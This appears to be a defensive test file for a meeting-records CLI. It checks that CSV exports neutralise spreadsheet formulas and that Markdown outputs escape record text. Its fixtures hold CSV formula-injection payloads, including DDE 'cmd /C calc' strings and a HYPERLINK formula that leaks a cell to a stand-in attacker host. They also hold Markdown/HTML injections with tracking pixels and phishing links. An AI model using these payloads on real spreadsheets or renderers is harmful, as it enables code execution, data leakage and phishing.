// Issue 12, class 6: outputs other programs open. CSV cells a spreadsheet
// would run as formulas start with "'"; every Markdown output shows record
// text as text (no link, image, HTML, heading or list from a record); a
// metric value that is not finite, or too large to sum, is a finding
// (metric-out-of-range), never an "∞", "NaN" or null in a report.
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { marked } from 'marked';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvTable, csvTableChunks, markdownText } from '../../src/render/table.js';
import type { Finding } from '../../src/model/ruleCatalogue.js';
import { GIT_ENV, git, MINIMAL_CONFIG, runMeet, tempDir, writeTree } from '../helpers.js';

// --- CSV --------------------------------------------------------------------

/** RFC 4180 fields of a CSV text (quoted fields may hold commas and quotes). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') field += text[++i];
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    }
    else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}

const FORMULAS = ['=HYPERLINK("http://attacker/?"&B3,"Bấm")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1'];

describe('CSV: no cell starts a formula', () => {
  it('csvTable prefixes = + - @ tab and CR with a quote, and quotes what needs quoting', () => {
    const rows = csvRows(csvTable(['a', 'b'], [['=1', '+1'], ['-1', '@x'], ['\tx', '\rx'], ['a=1', 'x,"y"']]));
    expect(rows).toEqual([
      ['a', 'b'],
      ["'=1", "'+1"],
      ["'-1", "'@x"],
      ["'\tx", "'\rx"],
      ['a=1', 'x,"y"'],
    ]);
  });

  it('csvTableChunks writes a long table in pieces that join to the table, a quoted field across none of their joins', () => {
    const rows = Array.from({ length: 3000 }, (_, i) => [`t-${i}`, i % 7 === 0 ? `Báo cáo, "đợt ${i}"\r\nkết thúc` : `Nhiệm vụ số ${i}`, `=${i}`]);
    const pieces = [...csvTableChunks(['id', 'title', 'formula'], rows)];
    expect(pieces.length).toBeGreaterThan(10);
    expect(pieces.join('')).toBe(csvTable(['id', 'title', 'formula'], rows));
    expect(csvRows(pieces.join(''))).toEqual([['id', 'title', 'formula'], ...rows.map(([id, title, formula]) => [id, title, `'${formula}`])]);
    expect(pieces.join('').endsWith('\r\n')).toBe(true);
  });

  it('meet tasks --format csv: titles, meeting titles and owners beginning with a formula come out as text', async () => {
    const tasks = FORMULAS.map((title, i) => `  - id: t-${i}\n    title: ${JSON.stringify(title)}\n    owner: van-phong\n`).join('');
    const root = tempDir('meet-outputs-');
    writeTree(root, {
      'meet.config.yaml': MINIMAL_CONFIG,
      'meetings/2020/2020-10-05-a.md': `---\ntitle: ${JSON.stringify(FORMULAS[0])}\ndate: 2020-10-05\nchair: "@chair"\ntasks:\n${tasks}---\n`,
    });
    const run = await runMeet(['tasks', '--format', 'csv', '--today', '2020-11-01'], { cwd: root });
    expect(run.code).toBe(0);
    const [header, ...rows] = csvRows(run.stdout);
    expect(header![1]).toBe('title');
    expect(rows).toHaveLength(FORMULAS.length);
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.map((r) => r[1])).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(header).toContain('meeting_title');
    expect(rows[0]![header!.indexOf('meeting_title')]).toBe(`'${FORMULAS[0]}`);
  });
});

// --- Markdown -----------------------------------------------------------------

const HOSTILE = [
  'https://attacker.example/bare www.attacker.example/x eve@attacker.example',
  '<img src=https://attacker.example/pr.gif> <h1>ALL CHECKS PASSED</h1>',
  '![](https://attacker.example/pixel.gif)',
  '[Bấm vào đây](https://attacker.example/login)',
  '<https://attacker.example/auto>',
  '[x]: https://attacker.example/ref',
  '# ALL CHECKS PASSED',
  '- [x] done',
  '1. first',
  '*bold* _it_ ~~gone~~ `code` a|b \\|c \\\\',
  '&lt;script&gt; &amp; <!-- comment -->',
  '<details open><summary>x</summary>',
];

describe('markdownText: record text shown as text', () => {
  it.each(HOSTILE)('%s renders as exactly that text, in a paragraph, a list item and a table cell', (text) => {
    for (const [markdown, inside] of [
      [markdownText(text), 'p'],
      [`- ${markdownText(text)}`, 'li'],
      [`| a |\n| --- |\n| ${markdownText(text)} |`, 'td'],
    ] as const) {
      const html = marked.parse(markdown, { async: false, gfm: true });
      expect(html, markdown).not.toMatch(/<(img|a|h\d|script|details|summary|em|strong|del|code|input|ol)\b/);
      const content = new RegExp(`<${inside}>([\\s\\S]*?)</${inside}>`).exec(html)?.[1];
      const decoded = content?.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
      expect(decoded, html).toBe(text);
    }
  });
});

/** The elements a Markdown output may hold when its records say anything at all. */
function expectOnlyOwnMarkup(label: string, markdown: string): void {
  const html = marked.parse(markdown, { async: false, gfm: true });
  expect(html, label).not.toMatch(/<(img|script|iframe|details|summary|input|form)\b/i);
  expect(html, label).not.toMatch(/<a\b/i);
  expect(html, label).not.toMatch(/ALL CHECKS PASSED<\/h/);
  expect(html, label).not.toMatch(/<(em|strong|del)>(bold|it|gone)</);
  // Every table row has as many cells as its header.
  for (const table of html.match(/<table>[\s\S]*?<\/table>/g) ?? []) {
    const widths = (table.match(/<tr>[\s\S]*?<\/tr>/g) ?? []).map((row) => (row.match(/<t[hd]\b/g) ?? []).length);
    expect(new Set(widths).size, `${label}: ${widths.join(',')}`).toBe(1);
  }
}

describe('every Markdown output, on records and a config full of Markdown and HTML', () => {
  let root: string;
  const title = HOSTILE[0]!;
  beforeAll(() => {
    root = tempDir('meet-outputs-');
    const config = MINIMAL_CONFIG.replace('organization: UBND huyện Thử Nghiệm', `organization: ${JSON.stringify(HOSTILE[1])}`)
      .replace('kinh-te: Kinh tế', `kinh-te: ${JSON.stringify(HOSTILE[2])}`)
      .replace('van-phong: Văn phòng HĐND và UBND huyện', `van-phong: ${JSON.stringify(HOSTILE[3])}`)
      .replace('{ label: Máu tiếp nhận, unit: đơn vị,', `{ label: ${JSON.stringify(HOSTILE[4])}, unit: ${JSON.stringify(HOSTILE[5])},`);
    const list = (texts: string[]) => texts.map((t) => `  - ${JSON.stringify(t)}\n`).join('');
    writeTree(root, {
      'meet.config.yaml': config,
      'meetings/2020/2020-10-05-giao-viec.md': `---
title: ${JSON.stringify(title)}
date: 2020-10-05
chair: ${JSON.stringify(HOSTILE[6])}
results:
  - sector: kinh-te
    summary: ${JSON.stringify(HOSTILE.join(' '))}
  - sector: van-hoa-xa-hoi
    summary: ${JSON.stringify(HOSTILE[7])}
    metrics: { don-vi-mau: 12 }
decisions:
${list(HOSTILE)}tasks:
${HOSTILE.map((t, i) => `  - { id: t-${i}, title: ${JSON.stringify(t)}, owner: [van-phong, tai-chinh-ke-hoach], due: 2020-10-20 }\n`).join('')}---
`,
    });
    git(root, 'init', '-q', '-b', 'main');
    git(root, 'add', '-A');
    git(root, 'commit', '-q', '-m', 'October');
    writeTree(root, {
      'meetings/2020/2020-11-05-kiem-tra.md': `---
title: ${JSON.stringify(HOSTILE[8])}
date: 2020-11-05
chair: ${JSON.stringify(HOSTILE[9])}
results:
  - sector: van-hoa-xa-hoi
    summary: ${JSON.stringify(HOSTILE[10])}
    metrics: { don-vi-mau: 20 }
decisions:
${list(HOSTILE)}updates:
${HOSTILE.map((t, i) => `  - { task: t-${i}, status: done, note: ${JSON.stringify(t)} }\n`).join('')}---
`,
    });
    git(root, 'add', '-A');
    const commit = spawnSync('git', ['commit', '-q', '-m', 'November'], {
      cwd: root,
      env: { ...process.env, ...GIT_ENV, GIT_AUTHOR_NAME: '[Eve](https://attacker.example) <img src=x>' },
      encoding: 'utf8',
    });
    expect(commit.status, commit.stderr).toBe(0);
  });

  it('the records are valid (check passes)', async () => {
    const run = await runMeet(['check', '--format', 'json'], { cwd: root });
    expect(JSON.parse(run.stdout)).toEqual([]);
  });

  it('report and digest --format md, tasks --format md, diff --format md, diff --rev --format md, log --format md', async () => {
    const outputs: [string, string][] = [];
    for (const month of ['2020-10', '2020-11']) {
      outputs.push([`report ${month}`, (await runMeet(['report', '--month', month, '--format', 'md', '--today', '2020-12-01'], { cwd: root })).stdout]);
      expect((await runMeet(['digest', '--month', month, '--today', '2020-12-01'], { cwd: root })).code).toBe(0);
      outputs.push([`digest ${month}`, readFileSync(path.join(root, 'reports', `${month}.md`), 'utf8')]);
    }
    outputs.push(['tasks', (await runMeet(['tasks', '--format', 'md', '--today', '2020-10-10'], { cwd: root })).stdout]);
    outputs.push(['tasks (month)', (await runMeet(['tasks', '--format', 'md', '--month', '2020-11'], { cwd: root })).stdout]);
    outputs.push(['diff', (await runMeet(['diff', '2020-10', '2020-11', '--format', 'md'], { cwd: root })).stdout]);
    outputs.push(['diff --rev', (await runMeet(['diff', '--rev', 'HEAD~1..HEAD', '--format', 'md'], { cwd: root })).stdout]);
    outputs.push(['diff --rev (removed)', (await runMeet(['diff', '--rev', 'HEAD..HEAD~1', '--format', 'md'], { cwd: root })).stdout]);
    outputs.push(['log', (await runMeet(['log', 't-0', '--format', 'md'], { cwd: root })).stdout]);
    for (const [label, markdown] of outputs) {
      expect(markdown.length, label).toBeGreaterThan(100);
      expectOnlyOwnMarkup(label, markdown);
    }
    // The text itself is all there, readable once rendered.
    const rendered = marked.parse(outputs[0]![1], { async: false, gfm: true });
    expect(rendered).toContain('&lt;img src=https://attacker.example/pr.gif&gt; &lt;h1&gt;ALL CHECKS PASSED&lt;/h1&gt;');
    expect(rendered).toContain('![](https://attacker.example/pixel.gif)');
  });
});

// --- numbers ------------------------------------------------------------------

describe('a metric value too large to count with is a finding, never an output', () => {
  const record = (date: string, values: string[]) =>
    `---\ntitle: Hội nghị\ndate: ${date}\nchair: Hoàng Văn Hiệp\nresults:\n${values.map((v) => `  - sector: van-hoa-xa-hoi\n    summary: Hiến máu\n    metrics: { don-vi-mau: ${v} }\n`).join('')}---\n`;

  it.each([
    ['two results of 1e308 (they sum to ∞)', ['1e308', '1e308'], 2],
    ['1e400 (Infinity)', ['1e400'], 1],
    ['-1e400', ['-1e400'], 1],
    ['1 followed by 400 zeros', [`1${'0'.repeat(400)}`], 1],
    ['just over 10^15', ['1000000000000001', '5'], 1],
  ])('%s: metric-out-of-range at each, and report, digest and diff refuse', async (_what, values, count) => {
    const root = tempDir('meet-outputs-');
    writeTree(root, { 'meet.config.yaml': MINIMAL_CONFIG, 'meetings/2020/2020-10-05-a.md': record('2020-10-05', values) });
    const check = await runMeet(['check', '--format', 'json'], { cwd: root });
    expect(check.code).toBe(1);
    const findings = JSON.parse(check.stdout) as Finding[];
    expect(findings.map((f) => f.rule)).toEqual(Array(count).fill('metric-out-of-range'));
    // At the value: `    metrics: { don-vi-mau: 1e308 }`.
    expect(findings[0]).toMatchObject({ line: 8, column: 28 });
    for (const args of [['report', '--month', '2020-10', '--format', 'json'], ['report', '--month', '2020-10', '--format', 'html'], ['digest', '--month', '2020-10'], ['diff', '2020-09', '2020-10']]) {
      const run = await runMeet(args, { cwd: root });
      expect(run.code, args.join(' ')).toBe(1);
      expect(run.stdout).toBe('');
    }
  });

  it('10^15 itself is fine, and a hundred of them still sum to a finite, exact figure', async () => {
    const root = tempDir('meet-outputs-');
    const files: Record<string, string> = { 'meet.config.yaml': MINIMAL_CONFIG };
    for (let day = 1; day <= 25; day++) files[`meetings/2020/2020-10-${String(day).padStart(2, '0')}-a.md`] = record(`2020-10-${String(day).padStart(2, '0')}`, Array(4).fill('1e15'));
    files['meetings/2020/2020-09-30-b.md'] = record('2020-09-30', ['-1e15']);
    writeTree(root, files);
    expect((await runMeet(['check'], { cwd: root })).code).toBe(0);
    for (const format of ['json', 'text', 'md', 'html']) {
      const run = await runMeet(['report', '--month', '2020-10', '--format', format], { cwd: root });
      expect(run.code).toBe(0);
      expect(run.stdout).not.toMatch(/∞|NaN|Infinity/);
      if (format === 'json') {
        const metric = JSON.parse(run.stdout).metrics.find((m: { id: string }) => m.id === 'don-vi-mau');
        expect(metric).toMatchObject({ value: 1e17, previous: -1e15, change: 1e17 + 1e15 });
        expect(Number.isFinite(metric.percent)).toBe(true);
      }
    }
  });

  it('diff --rev shows a record that turned one into an unreadable record, not an ∞', async () => {
    const root = tempDir('meet-outputs-');
    writeTree(root, { 'meet.config.yaml': MINIMAL_CONFIG, 'meetings/2020/2020-10-05-a.md': record('2020-10-05', ['12']) });
    git(root, 'init', '-q', '-b', 'main');
    git(root, 'add', '-A');
    git(root, 'commit', '-q', '-m', 'a');
    writeTree(root, { 'meetings/2020/2020-10-05-a.md': record('2020-10-05', ['1e308', '1e308']) });
    git(root, 'commit', '-q', '-am', 'b');
    for (const format of ['json', 'text', 'md']) {
      const run = await runMeet(['diff', '--rev', 'HEAD~1..HEAD', '--format', format], { cwd: root });
      expect(run.code).toBe(0);
      expect(run.stdout).not.toMatch(/∞|NaN/);
      if (format === 'json') {
        const diff = JSON.parse(run.stdout);
        expect(diff.metrics).toEqual([]);
        expect(diff.unreadable).toEqual([expect.objectContaining({ at: 'to', file: 'meetings/2020/2020-10-05-a.md' })]);
        // The repository is Vietnamese (MINIMAL_CONFIG says locale: vi), and so is the message.
        expect(diff.unreadable[0].message).toMatch(/"don-vi-mau" là 1e\+308, vượt quá giới hạn/);
      }
    }
  });
});
